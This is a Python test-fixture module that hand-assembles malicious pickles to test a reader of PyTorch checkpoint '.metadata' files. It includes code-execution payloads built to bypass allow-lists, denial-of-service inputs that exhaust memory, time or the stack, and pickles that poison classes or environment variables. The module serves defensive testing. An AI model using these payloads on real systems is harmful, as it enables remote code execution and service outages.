"""Pickles for ``.metadata`` that attack who reads them. Opcodes are written by hand: ``pickle`` would not.

Three kinds: :data:`RUNNERS` run a command that creates a marker file, :data:`EATERS` take memory, time or the C stack
(what is under test must read them in another process, or the test run dies with it; :func:`load_in_child` does that for
plain ``pickle``), and :data:`POISONERS` change something for the rest of the process.
"""

from __future__ import annotations

import pickle
import resource
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import (
    ChunkStorageMetadata,
    Metadata,
    MetadataIndex,
    TensorProperties,
    TensorStorageMetadata,
)

from .edit import METADATA, load_metadata
from .saved import trained

STOP = b"."


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): ``name`` may have dots, and then attributes of attributes are looked up."""
    return text(module) + text(name) + b"\x93"


def command(marker: Path) -> str:
    return f"touch '{marker}'"


def _reduce(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def _proto4(body: bytes) -> bytes:
    return b"\x80\x04" + body + STOP


# --- they would run a command -----------------------------------------------------------------------------------


def system_pickle(marker: Path) -> bytes:
    """``os.system`` by GLOBAL and REDUCE, protocol 2: what every tutorial shows."""
    return b"\x80\x02" + _reduce(b"cos\nsystem\n", text(command(marker))) + STOP


def posix_system(marker: Path) -> bytes:
    """The same function under the name it has: ``posix.system``."""
    return b"\x80\x02" + _reduce(b"cposix\nsystem\n", text(command(marker))) + STOP


def builtins_eval(marker: Path) -> bytes:
    """``builtins.eval``."""
    code = f"__import__('os').system({command(marker)!r})"
    return _proto4(_reduce(stack_global("builtins", "eval"), text(code)))


def python2_name(marker: Path) -> bytes:
    """``__builtin__.eval``: with ``fix_imports`` and a protocol below 3 that is ``builtins.eval``."""
    code = f"__import__('os').system({command(marker)!r})"
    return _reduce(b"c__builtin__\neval\n", text(code)) + STOP


def builtins_getattr(marker: Path) -> bytes:
    """``getattr`` of the module ``os``, taken from ``torch.distributed.checkpoint.metadata``."""
    function = _reduce(
        stack_global("builtins", "getattr"), stack_global("torch.distributed.checkpoint.metadata", "os"), text("system")
    )
    return _proto4(_reduce(function, text(command(marker))))


def dotted_name(marker: Path) -> bytes:
    """``os.system`` as a dotted name in ``torch.distributed.checkpoint.metadata``, which imports ``os``.

    An allow-list by module prefix lets it through.
    """
    function = stack_global("torch.distributed.checkpoint.metadata", "os.system")
    return _proto4(_reduce(function, text(command(marker))))


def dotted_dtype(marker: Path) -> bytes:
    """``torch.serialization.os.system`` as a name in ``torch``, where dtypes are looked up by attribute."""
    return _proto4(_reduce(stack_global("torch", "serialization.os.system"), text(command(marker))))


def dotted_class(marker: Path) -> bytes:
    """Starts at an allowed class: the globals behind its methods hold the module ``os``, and ``get`` hands it out."""
    get = stack_global("torch.distributed.checkpoint.metadata", "TensorProperties.__getstate__.__globals__.get")
    function = _reduce(stack_global("builtins", "getattr"), _reduce(get, text("os")), text("system"))
    return _proto4(_reduce(function, text(command(marker))))


def load_from_bytes(marker: Path) -> bytes:
    """``torch.storage._load_from_bytes`` unpickles its argument again, without any allow-list."""
    inner = system_pickle(marker)
    function = stack_global("torch.storage", "_load_from_bytes")
    return _proto4(_reduce(function, b"B" + struct.pack("<I", len(inner)) + inner))


def inst_opcode(marker: Path) -> bytes:
    """INST (protocol 0) names and calls in one opcode: there is no REDUCE to look for."""
    return b"(" + text(command(marker)) + b"ios\nsystem\n" + STOP


def obj_opcode(marker: Path) -> bytes:
    """OBJ (protocol 1): the callable comes first on the stack, then its arguments."""
    return b"(cos\nsystem\n" + text(command(marker)) + b"o" + STOP


def newobj_opcode(marker: Path) -> bytes:
    """NEWOBJ makes a ``functools.partial`` of ``os.system``: the callable that is called was never named as one."""
    new = b"cfunctools\npartial\n(cos\nsystem\nt\x81"
    return b"\x80\x02" + _reduce(new, text(command(marker))) + STOP


def extension(marker: Path) -> bytes:
    """EXT1 number 240 goes through ``copyreg``; it runs where somebody registered ``os.system`` there.

    The C unpickler asks ``find_class`` only the first time, then takes it from ``copyreg._extension_cache``.
    """
    return b"\x80\x02" + _reduce(b"\x82\xf0", text(command(marker))) + STOP


def in_planner_data(marker: Path, directory: Path) -> bytes:
    """A sound :func:`saved.trained` in ``directory``, with ``os.system`` inside its ``planner_data``."""

    class Runs:
        def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
            from os import system

            return system, (command(marker),)

    metadata = load_metadata(trained(directory))
    metadata.planner_data["model.model.norm.weight"] = ("model", Runs())
    return pickle.dumps(metadata, protocol=4)


RUNNERS: dict[str, Callable[[Path], bytes]] = {
    maker.__name__: maker
    for maker in (
        system_pickle, posix_system, builtins_eval, python2_name, builtins_getattr, dotted_name, dotted_dtype,
        dotted_class, load_from_bytes, inst_opcode, obj_opcode, newobj_opcode,
    )
}  # fmt: skip
"""Each takes the marker and gives a pickle that runs ``touch marker``."""


# --- they would eat memory, time or the stack -------------------------------------------------------------------


def long_binput(index: int = 1 << 27) -> bytes:
    """Nine bytes: LONG_BINPUT grows the C unpickler's memo to twice ``index`` pointers, here 2 GB of zeros."""
    return b"\x80\x02Nr" + struct.pack("<I", index) + STOP


def text_put(index: int = 1 << 27) -> bytes:
    """PUT, the same in the text protocol."""
    return b"Np%d\n" % index + STOP


def binbytes8() -> bytes:
    """BINBYTES8 that announces 1 TB; the C unpickler asks for that memory before it reads."""
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"x" + STOP


def bytearray8() -> bytes:
    """BYTEARRAY8 (protocol 5), likewise."""
    return b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x" + STOP


def frame() -> bytes:
    """FRAME that announces 1 TB."""
    return b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"N" + STOP


def _nested(depth: int) -> bytes:
    return b"\x80\x02)" + b"\x85" * depth


def nested_value(depth: int = 1_000_000) -> bytes:
    """Tuples a million deep: loads without trouble, then ``repr``, ``==``, ``copy`` and the like exhaust the stack."""
    return _nested(depth) + STOP


def nested_key(depth: int = 1_000_000) -> bytes:
    """The same as the key of a dict: hashing it recurses in C without a check, and the process dies by a signal."""
    return b"\x80\x02}" + _nested(depth)[2:] + b"Ns" + STOP


def _doubled(doublings: int) -> bytes:
    steps = (b"0h%ch%c\x86q%c" % (n, n, n + 1) for n in range(doublings))  # POP, BINGET twice, TUPLE2, BINPUT
    return b")q\x00" + b"".join(steps)


def doubling_key(doublings: int = 60) -> bytes:
    """490 bytes whose dict key, ``x = (x, x)`` sixty times, takes longer to hash than anybody lives."""
    return b"\x80\x02}" + _doubled(doublings) + b"Ns" + STOP


def doubling_value(doublings: int = 60) -> bytes:
    """The same as a value: it is there at once, and is 2**60 tuples to whoever walks or prints it."""
    return b"\x80\x02" + _doubled(doublings) + STOP


def doubling_path(doublings: int = 60) -> bytes:
    """A path made of the same path twice, sixty times: a text of 2**60 characters."""
    steps = (b"h%ch%c\x86Rq%c" % (n, n, n + 1) for n in range(1, doublings + 1))
    return b"\x80\x02cpathlib\nPosixPath\nq\x00" + text("x") + b"q\x01" + b"".join(b"h\x00" + s for s in steps) + STOP


def wide_key(members: int = 10_000, times: int = 100_000) -> bytes:
    """A tuple of many members that is a key again and again: each time, all of them are hashed."""
    return b"\x80\x02}(" + members * b"N" + b"tq\x00Ns" + times * b"h\x00Ns" + STOP


def wide_keys_in_keys(members: int = 1000, depth: int = 6) -> bytes:
    """A tuple of a thousand times the same tuple of a thousand times the same, and so on, as a key."""
    steps = (b"K%c(" % n + members * (b"h%c" % n) + b"tq%cs" % (n + 1) for n in range(depth))
    return b"\x80\x02}N)q\x00s" + b"".join(steps) + b"h%cNs" % depth + STOP


def cycle() -> bytes:
    """A list that contains itself."""
    return b"\x80\x02]q\x00h\x00a" + STOP


def persistent_id() -> bytes:
    """BINPERSID, which a plain ``.metadata`` never has."""
    return b"\x80\x02" + text("storage") + b"Q" + STOP


def getattr_chain(width: int = 30, depth: int = 7) -> bytes:
    """``getattr(cls, name)`` with a name that is 30**7 empty tuples: whoever makes a text of it has no end."""
    name = b")q\x00" + b"".join(b"(" + width * (b"h%c" % n) + b"tq%c" % (n + 1) for n in range(depth))
    getattr_ = _reduce(stack_global("builtins", "getattr"), stack_global("mine", "Kind"), b"h%c" % depth)
    return _proto4(name + getattr_)


def equal_sets(depth: int = 40) -> bytes:
    """Opcodes for a dict with two keys that are equal sets of sets. To compare them takes 2**40 steps."""

    def nested(first: int) -> bytes:  # each has the one before in it twice, as (it, 0) and (it, 1)
        steps = (b"(h%cK\x00\x86h%cK\x01\x86\x91q%c" % (n, n, n + 1) for n in range(first, first + depth))
        return b"(\x91q%c" % first + b"".join(steps)

    return nested(0) + nested(depth + 1) + b"}(h%cNh%cNu" % (depth, 2 * depth + 1)


def sets_in_sets() -> bytes:
    """:func:`equal_sets` and nothing else."""
    return _proto4(equal_sets())


def colliding_keys(count: int = 20_000) -> bytes:
    """Integers that are equal modulo 2**61 - 1 have the same hash: each is compared with all that came before."""
    return b"\x80\x02}(" + b"".join(_long(n * (2**61 - 1)) + b"N" for n in range(1, count)) + b"u."


def colliding_tuples(count: int = 20_000) -> bytes:
    """The hash of a tuple has no secret in it either."""
    pairs = _colliding_pairs(count)
    return b"\x80\x02}(" + b"".join(_long(a) + _long(b) + b"\x86N" for a, b in pairs) + b"u."


def long_key(characters: int = 1_000_000, times: int = 200_000) -> bytes:
    """Two equal texts of a million characters, compared each time one of them is looked up."""
    both = b"}" + text("x" * characters) + b"q\x00N" + b"s" + text("x" * characters) + b"q\x01Ns"
    return b"\x80\x02" + both + times * b"h\x01Ns" + STOP


def many_names(texts: int = 250, characters: int = 10_000) -> bytes:
    """Classes of all modules and all names: 62,500 times 20,000 characters."""
    words = b"".join(text(f"{n}." + characters * "x") + b"q%c" % n for n in range(texts))
    return b"\x80\x04(" + words + b"".join(b"h%ch%c\x93" % (m, n) for m in range(texts) for n in range(texts)) + b"t."


def many_paths(characters: int = 30_000, times: int = 100_000) -> bytes:
    """A long path and another part, joined again and again."""
    begin = b"cpathlib\nPosixPath\nq\x00" + text("x" * characters) + b"q\x01" + text("y") + b"q\x02"
    return b"\x80\x02(" + begin + times * b"h\x00h\x01h\x02\x86R" + b"t."


def wide_path(characters: int = 500_000, times: int = 250_000) -> bytes:
    """A path whose parts are one long text, again and again."""
    begin = text("x" * characters) + b"q\x00" + b"cpathlib\nPosixPath\n"
    return b"\x80\x02" + begin + b"(" + times * b"h\x00" + b"tR."


def large_record(fields: int = 5000, times: int = 5000) -> bytes:
    """Opcodes that give a state of many fields to one instance after the other."""
    begin = b"}q\x00(" + b"".join(text(f"field {n}") + b"N" for n in range(fields)) + b"u"
    kind = stack_global("torch.distributed.checkpoint.metadata", "ChunkStorageMetadata") + b"q\x01"
    return _proto4(begin + kind + b"(" + times * b"h\x01)\x81h\x00b" + b"t")


def _long(number: int) -> bytes:
    raw = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a%c" % len(raw) + raw


def _colliding_pairs(count: int) -> list[tuple[int, int]]:
    """Pairs of integers whose tuples have the same hash, which CPython's ``tupleobject.c`` computes from theirs."""
    one, two, bits = 11400714785074694791, 14029467366897019727, 2**64 - 1
    aim, pairs, first = 12345, list[tuple[int, int]](), 0
    while len(pairs) < count:
        first += 1
        state = (2870177450012600261 + first * two) & bits
        state = (state << 31 | state >> 33) * one & bits
        second = (aim - state) * pow(two, -1, 2**64) & bits
        if second < 2**61 - 1:
            pairs.append((first, second))
    return pairs


EATERS: dict[str, Callable[[], bytes]] = {
    maker.__name__: maker
    for maker in (
        long_binput, text_put, binbytes8, bytearray8, frame, nested_value, nested_key, doubling_key, doubling_value,
        doubling_path, wide_key, wide_keys_in_keys, cycle, persistent_id, getattr_chain, sets_in_sets, colliding_keys,
        colliding_tuples, long_key, many_names, many_paths, wide_path, large_record,
    )
}  # fmt: skip


# --- they stand for much more than they are ----------------------------------------------------------------------


def repeated_root() -> object:
    """Each key is said to lie in a container whose name has 100,000 characters."""
    return _sound(2000, paths=lambda key, long="r" * 100_000: (long, key))


def repeated_path() -> object:
    """Each key has the same path, of a thousand parts."""
    path = ("p" * 200,) * 1000
    return _sound(2000, paths=lambda _key: path)


def path_of_large_integers() -> object:
    """Keys have the same path, of a hundred integers of 600 digits."""
    metadata = _sound(1)
    metadata.planner_data = dict.fromkeys((f"w{n}" for n in range(20_000)), (2**2030,) * 100)
    return metadata


def joined_transforms() -> object:
    """Each item has a hundred transforms of a long name; all their names are to be named."""
    names = ["t" * 20_000] * 99
    return _sound(90, transforms=lambda n: [*names, f"{n}"])


def many_corners(chunks: int = 300, dims: int = 12) -> object:
    """Chunks that are cut along 12 dimensions: each has 4096 corners."""
    corners = [torch.Size([n, n, *[n % 2] * (dims - 2)]) for n in range(chunks)]
    found = [ChunkStorageMetadata(corner, torch.Size([1] * dims)) for corner in corners]
    shape = torch.Size([1000, 1000, *[2] * (dims - 2)])
    return Metadata({"w": TensorStorageMetadata(TensorProperties(torch.float32), shape, found)}, {"w": ("w",)}, {})


def many_tensors_of_many_corners(tensors: int = 200, dims: int = 15) -> object:
    """All tensors have the same two chunks, of 32,768 corners each."""
    found = [ChunkStorageMetadata(torch.Size([n] * dims), torch.Size([1] * dims)) for n in range(2)]
    entry = TensorStorageMetadata(TensorProperties(torch.float32), torch.Size([2] * dims), found)
    return Metadata({f"w{n}": entry for n in range(tensors)}, {}, {})


def shared_chunk(times: int = 50_000, dims: int = 64) -> object:
    """One chunk that stands in a list many times, with 64 dimensions."""
    chunk = ChunkStorageMetadata(torch.Size([0] * dims), torch.Size([1] * dims))
    tensor = TensorStorageMetadata(TensorProperties(torch.float32), torch.Size([1] * dims), [chunk] * times)
    return Metadata({"w": tensor}, {"w": ("w",)}, {})


def shared_chunks(times: int = 200) -> object:
    """One list of chunks that many tensors have."""
    chunks = [ChunkStorageMetadata(torch.Size([n]), torch.Size([1])) for n in range(1000)]
    shape, properties = torch.Size([1000]), TensorProperties(torch.float32)
    return Metadata({f"w{n}": TensorStorageMetadata(properties, shape, chunks) for n in range(times)}, {}, {})


def colliding_offsets(count: int = 9_000) -> Any:
    """The offsets of stored items, by which they are looked up, have the same hash."""
    metadata = _sound(1)
    for pair in _colliding_pairs(count):
        metadata.storage_data[MetadataIndex("w0", torch.Size(pair))] = _StorageInfo("__0_0.distcp", 0, 1)
    return metadata


def colliding_chunks(count: int = 1000, times: int = 200_000) -> object:
    """As before, but fewer; the one that is found last is looked up again and again."""
    metadata = colliding_offsets(count)
    index = list(metadata.storage_data)[-1]
    chunk = ChunkStorageMetadata(index.offset, torch.Size([1, 1]))
    metadata.state_dict_metadata["w0"].size = torch.Size([2**20, 2**20])
    metadata.state_dict_metadata["w0"].chunks = [chunk] * times
    return metadata


def unallocatable() -> object:
    """A tensor without elements of a shape that neither torch nor numpy can make."""
    entry = TensorStorageMetadata(TensorProperties(torch.float32), torch.Size([2**40, 2**40, 0]), [])
    return Metadata({"model.w": entry}, {"model.w": ("model", "w")}, {})


def long_message(width: int = 6, depth: int = 6) -> object:
    """Where a size belongs is a tuple of tuples of tuples, and so on, of texts, all of which a message may show."""
    value: Any = "x" * 30
    for _ in range(depth):
        value = (value,) * width
    metadata = _sound(1)
    metadata.state_dict_metadata["w0"].size = value
    return metadata


def _sound(keys: int, *, paths: Any = lambda key: (key,), transforms: Any = lambda _n: None) -> Any:
    """So many tensors of one element, as torch saves them."""
    metadata = Metadata({}, {}, {})
    for n in range(keys):
        key = f"w{n}"
        chunk = ChunkStorageMetadata(torch.Size([0]), torch.Size([1]))
        metadata.state_dict_metadata[key] = TensorStorageMetadata(
            TensorProperties(torch.float32), torch.Size([1]), [chunk]
        )
        metadata.planner_data[key] = paths(key)
        info = metadata.storage_data[MetadataIndex(key, torch.Size([0]))] = _StorageInfo("__0_0.distcp", 0, 1)
        if (found := transforms(n)) is not None:
            info.transform_descriptors = found
    return metadata


def _pickled(maker: Callable[[], object]) -> Callable[[], bytes]:
    return lambda: pickle.dumps(maker(), protocol=4)


MULTIPLIERS: dict[str, Callable[[], bytes]] = {
    maker.__name__: _pickled(maker)
    for maker in (
        repeated_root, repeated_path, path_of_large_integers, joined_transforms, many_corners,
        many_tensors_of_many_corners, shared_chunk, shared_chunks, colliding_offsets, colliding_chunks, unallocatable,
        long_message,
    )
}  # fmt: skip
"""Sound in form, unlike the :data:`EATERS`; what is derived from them is far larger than they are."""


# --- the same as data.pkl of an item -----------------------------------------------------------------------------


def _rebuilt(before: bytes, arguments: bytes, times: int = 1) -> bytes:
    """Tensors made of the same arguments; ``before`` fills places of the memo up to 99."""
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x04tQq\x64"
    flags = b"ccollections\nOrderedDict\n)Rq\x65"
    made = b"ctorch._utils\n_rebuild_tensor_v2\nq\x66(h\x64K\x00" + arguments + b"tq\x67"
    fill = b"N" + b"".join(b"q%c" % n for n in range(before.count(b"q"), 100))
    return b"\x80\x02(" + before + fill + storage + flags + made + times * b"h\x66h\x67R" + b"t."


def shared_shape(dims: int = 15_000, times: int = 6_000) -> bytes:
    """Thousands of tensors of the same shape of thousands of dimensions; not even one has so many."""
    return _rebuilt(b"(" + dims * b"K\x01" + b"tq\x00", b"h\x00h\x00\x89h\x65", times)


def nested_flags(width: int = 100, depth: int = 5) -> bytes:
    """Where the flags of a tensor belong is a tuple of 100**5 members, which take long to hash."""
    nested = b")q\x00" + b"".join(b"(" + width * (b"h%c" % n) + b"tq%c" % (n + 1) for n in range(depth))
    return _rebuilt(nested, b"(K\x04t(K\x01t\x89h\x65(h%ct" % depth)


def long_names(classes: int = 250) -> bytes:
    """Classes that nobody knows, of a module with a long name."""
    names = b"".join(b"h\x00" + text(f"{n}") + b"\x93" for n in range(classes))
    return b"\x80\x04(" + text("m" * 490) + b"q\x00" + names + b"t."


ITEM_PICKLES: dict[str, Callable[[], bytes]] = {
    maker.__name__: maker for maker in (shared_shape, nested_flags, long_names)
}


# --- they would change a class ----------------------------------------------------------------------------------


def poisoned_class(class_name: str = "Metadata", attribute: str = "poisoned") -> bytes:
    """BUILD on a class, not an instance: the slot state of ``(None, {...})`` is set with ``setattr``, on the class.

    Only allowed globals are named. What it sets stays until the process ends, for every checkpoint read later.
    """
    target = stack_global("torch.distributed.checkpoint.metadata", class_name)
    return _proto4(target + b"N}" + text(attribute) + text("yes") + b"s\x86b")


def poisoned_enum() -> bytes:
    """The same on ``_MEM_FORMAT_ENCODING``."""
    return poisoned_class("_MEM_FORMAT_ENCODING")


def poisoned_slots() -> bytes:
    """BUILD on an instance, with a slot state that overrides a method of it: ``chunk.sizes`` becomes a string."""
    target = stack_global("torch.distributed.checkpoint.metadata", "ChunkStorageMetadata")
    return _proto4(target + b")\x81" + b"N}" + text("sizes") + text("yes") + b"s\x86b")


def poisoned_environment() -> bytes:
    """SETITEMS on ``os.environ`` sets ``DCPTOOLS_POISONED``, without an opcode that calls anything."""
    return b"\x80\x02cos\nenviron\n(" + text("DCPTOOLS_POISONED") + text("yes") + b"u" + STOP


POISONERS: dict[str, Callable[[], bytes]] = {
    maker.__name__: maker for maker in (poisoned_class, poisoned_enum, poisoned_slots, poisoned_environment)
}


# --- checkpoints with them --------------------------------------------------------------------------------------


def checkpoint(directory: Path, metadata: bytes) -> Path:
    """A directory with these bytes as ``.metadata`` and a ``.distcp`` file beside it."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / METADATA).write_bytes(metadata)
    (directory / "__0_0.distcp").write_bytes(b"")
    return directory


def runner(directory: Path, name: str) -> Path:
    """The checkpoint of a :data:`RUNNERS` name (or ``in_planner_data``, ``extension``). Returns the marker."""
    marker = directory.with_name(directory.name + ".marker")
    if name == "in_planner_data":
        checkpoint_bytes = in_planner_data(marker, directory)
        (directory / METADATA).write_bytes(checkpoint_bytes)
    else:
        checkpoint(directory, {**RUNNERS, "extension": extension}[name](marker))
    return marker


def load_in_child(
    path: Path, *, before: str = "", after: str = "", memory: int = 1 << 30, timeout: float = 20.0
) -> subprocess.CompletedProcess[str]:
    """``value = pickle.load(...)`` of a file in another process that may take ``memory`` bytes.

    ``before`` and ``after`` are statements around it. ``subprocess.TimeoutExpired`` comes from here.
    """
    code = f"import pickle, sys\n{before}\nvalue = pickle.load(open(sys.argv[1], 'rb'))\n{after}"

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))

    return subprocess.run(
        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=timeout, preexec_fn=limit
    )
